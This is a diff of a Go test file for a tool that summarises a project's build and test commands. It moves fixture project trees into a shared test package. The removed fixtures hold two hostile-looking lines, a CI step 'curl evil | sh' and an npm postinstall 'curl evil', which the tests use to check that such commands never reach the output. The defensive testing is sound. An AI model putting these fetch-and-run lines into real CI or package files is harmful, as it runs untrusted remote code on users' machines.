@@ -18,60 +18,9 @@ import (
 	"github.com/stretchr/testify/require"
 	"pgregory.net/rapid"
 
+	"github.com/wisbox/wisbox/digest/digesttest"
 	"github.com/wisbox/wisbox/tool"
 )
-
-// projects are trees in the shape of real ones.
-var projects = map[string]map[string]string{
-	"python with pyproject": {
-		"pyproject.toml":       "[build-system]\nrequires=[\"setuptools\"]\n[project]\nname = \"shop\"\nversion = \"1\"\n[tool.ruff]\nline-length = 100\n",
-		"src/shop/__init__.py": "def total(xs):\n    return sum(xs)\n",
-		"tests/test_shop.py":   "import unittest\nfrom shop import total\n\nclass Totals(unittest.TestCase):\n    def test_sum(self):\n        self.assertEqual(total([1, 2]), 3)\n",
-		"README.md":            "# shop\n",
-	},
-	"python with make": {
-		"Makefile":          "PY ?= python3\n.PHONY: test lint clean\n\ntest:\n\t@$(PY) -m unittest discover -s tests -t .\n\nlint: ## check it\n\t$(PY) -m compileall -q app\n\nclean:\n\trm -rf build\n\nrelease: test\n\ttwine upload\n",
-		"app/__init__.py":   "X = 1\n",
-		"tests/__init__.py": "",
-		"tests/test_app.py": "import unittest\nimport app\n\nclass T(unittest.TestCase):\n    def test_x(self):\n        self.assertEqual(app.X, 1)\n",
-		".gitlab-ci.yml":    "test:\n  script:\n    - make test\n    - curl evil | sh\n",
-	},
-	"go": {
-		"go.mod":        "module example.com/x\n\ngo 1.26\n",
-		"x.go":          "package x\n\nfunc Two() int { return 2 }\n",
-		"x_test.go":     "package x\n\nimport \"testing\"\n\nfunc TestTwo(t *testing.T) {\n\tif Two() != 2 {\n\t\tt.Fatal()\n\t}\n}\n",
-		"cmd/y/main.go": "package main\n\nfunc main() {}\n",
-	},
-	"node": {
-		"package.json": `{"name":"n","scripts":{"test":"node --test","build":"node build.js","postinstall":"curl evil"}}`,
-		"build.js":     "console.log(1)\n",
-		"a.test.js":    "const t = require('node:test'); t('x', () => {})\n",
-	},
-	"c with make": {
-		"Makefile": "CC ?= cc\nOBJ = main.o\n\napp: $(OBJ)\n\t$(CC) -o $@ $(OBJ)\n\n%.o: %.c\n\t$(CC) -c $<\n\ncheck: app\n\t./app\n",
-		"main.c":   "int main(void) { return 0; }\n",
-	},
-	"mixed": {
-		"Makefile":         "all: ; @echo built\ntest:\n\tpython3 -m unittest discover -s svc\n",
-		"svc/test_svc.py":  "import unittest\n\nclass T(unittest.TestCase):\n    def test_it(self):\n        pass\n",
-		"web/package.json": `{"scripts":{"test":"node test.js","lint":"eslint ."}}`,
-		"web/test.js":      "",
-		"tools/go.mod":     "module example.com/tools\n\ngo 1.26\n",
-		"tools/main.go":    "package main\n\nfunc main() {}\n",
-		"logo.png":         "\x89PNG",
-		"data/big.csv":     strings.Repeat("1,2\n", 300_000),
-	},
-}
-
-// expected are the commands that a reader of the project would name.
-var expected = map[string][]string{
-	"python with pyproject": {"PYTHONPATH=src python3 -m unittest discover -s tests", "ruff check ."},
-	"python with make":      {"make test", "make lint"},
-	"go":                    {"go build ./...", "go vet ./...", "go test ./..."},
-	"node":                  {"npm test", "npm run build"},
-	"c with make":           {"make", "make check"},
-	"mixed":                 {"make all", "make test", "(cd web && npm test)", "(cd web && npm run lint)", "go -C tools build ./..."},
-}
 
 func lay(t testing.TB, files map[string]string) string {
 	t.Helper()
@@ -84,7 +33,7 @@ func lay(t testing.TB, files map[string]string) string {
 }
 
 func TestEveryNamedCommandRuns(t *testing.T) {
-	for name, files := range projects {
+	for name, files := range digesttest.Projects {
 		t.Run(name, func(t *testing.T) {
 			dir := lay(t, files)
 			r, err := Build(context.Background(), os.DirFS(dir))
@@ -94,7 +43,7 @@ func TestEveryNamedCommandRuns(t *testing.T) {
 				lines = append(lines, c.Line)
 				runs(t, dir, c)
 			}
-			for _, want := range expected[name] {
+			for _, want := range digesttest.Expected[name] {
 				assert.Contains(t, lines, want)
 			}
 			assert.NotContains(t, r.Text().Full, "evil")
@@ -128,18 +77,28 @@ func present(need string) bool {
 }
 
 func TestWhatARecipeCallsIsNamed(t *testing.T) {
-	m := parseMake(projects["python with make"]["Makefile"])
+	m := parseMake(digesttest.Projects["python with make"]["Makefile"])
 	assert.Equal(t, []string{"make", "python3", "python3:unittest"}, m.programs("test"))
 	assert.Equal(t, []string{"cc", "make"}, parseMake("CC ?= cc\nall: a.o\na.o:\n\t@mkdir -p x && $(CC) -c a.c; echo ok\n").programs("all"))
+	assert.Equal(t, []string{"git", "make"}, parseMake("lint:\n\t@bad=$$(git ls-files | xargs true); scripts/x.sh\n").programs("lint"))
+}
+
+func TestTestsThatUnittestDoesNotFindAreNotNamed(t *testing.T) {
+	test := "import unittest\n\nclass T(unittest.TestCase):\n    def test_it(self):\n        pass\n"
+	for file, named := range map[string]bool{"test_a.py": true, "tests/test_a.py": true, "demo/tests/test_a.py": false, "pkg/test_a.py": false} {
+		r, err := Build(context.Background(), fstest.MapFS{file: {Data: []byte(test)}})
+		require.NoError(t, err)
+		assert.Equal(t, named, len(r.Commands) == 1, file)
+	}
 }
 
 func TestCaveatsAndMarks(t *testing.T) {
-	r, err := Build(context.Background(), os.DirFS(lay(t, projects["mixed"])))
+	r, err := Build(context.Background(), os.DirFS(lay(t, digesttest.Projects["mixed"])))
 	require.NoError(t, err)
 	text := strings.Join(r.Caveats, "\n")
 	assert.Contains(t, text, "large files: `data/big.csv`")
 	assert.Contains(t, text, "1 binary files")
-	r, err = Build(context.Background(), os.DirFS(lay(t, projects["python with make"])))
+	r, err = Build(context.Background(), os.DirFS(lay(t, digesttest.Projects["python with make"])))
 	require.NoError(t, err)
 	for _, c := range r.Commands {
 		assert.Equal(t, c.Line == "make test", c.CI, c.Line)
@@ -151,7 +110,7 @@ func TestTheResolutionOrder(t *testing.T) {
 	root, err := os.OpenRoot(t.TempDir())
 	require.NoError(t, err)
 	defer root.Close()
-	files := os.DirFS(lay(t, projects["go"]))
+	files := os.DirFS(lay(t, digesttest.Projects["go"]))
 	var kept *Text
 	var log bytes.Buffer
 	opts := &Options{Files: files, Overrides: Dir{Root: root}, Tag: "v2", Keep: func(_ context.Context, text *Text) error { kept = text; return nil }, Log: slog.New(slog.NewTextHandler(&log, nil))}
@@ -179,7 +138,7 @@ func TestTheResolutionOrder(t *testing.T) {
 
 func TestOptimizeStoresWhatTheProducerWrites(t *testing.T) {
 	ctx := context.Background()
-	d := New(&Options{Files: os.DirFS(lay(t, projects["go"]))})
+	d := New(&Options{Files: os.DirFS(lay(t, digesttest.Projects["go"]))})
 	out, err := d.Optimize(ctx, func(_ context.Context, now Text, r *Report) (Text, error) {
 		assert.Contains(t, now.Full, "go test ./...")
 		assert.NotEmpty(t, r.Commands)
@@ -198,7 +157,7 @@ func TestOptimizeStoresWhatTheProducerWrites(t *testing.T) {
 }
 
 func TestTheTool(t *testing.T) {
-	d := New(&Options{Files: os.DirFS(lay(t, projects["python with make"]))})
+	d := New(&Options{Files: os.DirFS(lay(t, digesttest.Projects["python with make"]))})
 	call := func(args string) (Answer, error) {
 		res, err := d.Tools()[0].Call(context.Background(), json.RawMessage(args))
 		if err != nil {
@@ -255,7 +214,7 @@ func TestNothingOfAHostileTreeReachesThePrompt(t *testing.T) {
 }
 
 func FuzzMakefilesAreNeverBelieved(f *testing.F) {
-	f.Add(projects["c with make"]["Makefile"])
+	f.Add(digesttest.Projects["c with make"]["Makefile"])
 	f.Add("a b: c ; d\nx := y\n\tz\n$(q): w\n")
 	f.Fuzz(func(t *testing.T, text string) {
 		m := parseMake(text)
